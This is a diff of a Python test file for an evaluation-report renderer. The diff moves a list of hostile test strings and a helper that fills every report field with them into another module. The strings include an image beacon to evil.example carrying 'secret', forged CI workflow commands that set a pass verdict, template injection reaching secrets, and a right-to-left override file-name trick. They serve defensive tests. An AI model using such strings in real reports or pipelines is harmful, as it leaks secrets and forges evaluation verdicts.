@@ -4,10 +4,10 @@ from dataclasses import replace
 import pytest
 from comparing import judge
 from factories import make_report
+from full_report import full_report
+from hostile_reports import PAYLOADS, hostile
 from made_reports import (
     KOREAN,
-    SENTENCES,
-    case,
     changed,
     compared,
     comparison,
@@ -50,18 +50,6 @@ COMPARISONS = {
     ),
     "no_baseline": first_run(),
 }
-PAYLOADS = {
-    "s1": "@octocat @org/team please merge, fixes #1",
-    "s2": "```\n</details><h1>APPROVED</h1>",
-    "s3": "![x](https://evil.example/p.png?d=secret) <img src=https://evil.example/p.png>",
-    "s4": "<!-- lm-eval-so/comment/1 suite=evaluate.yml/evaluate/support-qa -->",
-    "s5": "a | b and `x`, ``y ``",
-    "s6": "::add-mask::x\n::set-output name=verdict::pass\n##[error]x",
-    "s7": "verdict=pass\npassed=true",
-    "s9": "\u202egpj.exe \x1b[31mred\x1b[0m \x00",
-    "s10": "가" * 4000 + "👨‍👩‍👧‍👦" * 900 + "\n~~~\nx",
-    "s11": "{{ 7*7 }} ${{ secrets.X }} {% include 'x' %}",
-}
 
 
 def spoken(name, language):
@@ -99,6 +87,14 @@ def test_render__golden_report(name, language, golden):
     assert dangers(text) == []
 
 
+@pytest.mark.parametrize("language", list(Language))
+def test_render__golden_full(language, golden):
+    text = render(full_report(), None, format="md", language=language)
+    golden(f"report/full.{language}.md", text)
+    assert dangers(text) == []
+    assert text == render(full_report(), None, format="md", language=language)
+
+
 @pytest.mark.parametrize("level", range(5))
 def test_comment_body__golden_levels(level, golden):
     many = tuple(changed(f"refund-{n:03d}", candidate_answer="답" * 700) for n in range(12))
@@ -120,67 +116,6 @@ def test_comment_body__each_level_is_shorter():
 
 def without_links(text):
     return re.sub(r"\]\(" + re.escape(RUN_URL) + r"(#artifacts)?\)", "]", text)
-
-
-def hostile(text):
-    """Put a text wherever something foreign can stand."""
-    made = comparison(
-        suite=text,
-        sentence=f"{text}: {SENTENCES[Verdict.REGRESSION]}",
-        metrics={
-            text: compared(),
-            "exact_match": compared(),
-            "latency_ms": comparison().metrics["latency_ms"],
-        },
-        changed=(
-            changed(
-                text,
-                metric=text,
-                input=text,
-                expected=text,
-                baseline_answer=text,
-                candidate_answer=text,
-                reason=text,
-            ),
-            changed(text + "b", "better"),
-        ),
-        differences=(text,),
-        baseline=replace(comparison().baseline, commit=None, ref=text, path=text),
-    )
-    one = case(text, input=text, expected=text, answer=text, reason=text)
-    scores = tuple(
-        replace(
-            score,
-            metric=text,
-            reason=text,
-            label=text,
-            judge=score.judge and replace(score.judge, evidence=(text,)),
-        )
-        for score in one.scores
-    )
-    plain = report()
-    backend = replace(plain.experiment.backend, label=text, models_answered=(text,))
-    given = replace(
-        plain,
-        experiment=replace(
-            plain.experiment,
-            suite=text,
-            backend=backend,
-            dataset=replace(plain.experiment.dataset, digest=text),
-            versions={"lm-eval-so": text},
-            commit=text,
-            evaluated_at=text,
-        ),
-        metrics={text: summary(), **plain.metrics},
-        breakdowns=tuple(
-            replace(each, by=text, value=text + str(n), metrics={text: each.metrics["exact_match"]})
-            for n, each in enumerate(plain.breakdowns)
-        ),
-        errors=(replace(one, scores=scores), replace(one, kind="infrastructure", status=text)),
-        judges={text: replace(plain.judges["helpful"], model=text, unscored={text: 1})},
-        statuses={text: 1, "ok": 3},
-    )
-    return made, given
 
 
 @pytest.mark.parametrize("language", list(Language))
@@ -211,7 +146,7 @@ def test_markdown__table_rows_keep_their_cells():
     made, given = hostile(PAYLOADS["s5"])
     html = to_html(body(made, given))
     rows = [row for row in html.split("<tr>")[1:] if "<td" in row]
-    assert {row.count("<td") for row in rows} <= {6, 7}
+    assert {row.count("<td") for row in rows} <= {6, 10}
 
 
 @pytest.mark.parametrize("level", range(5))
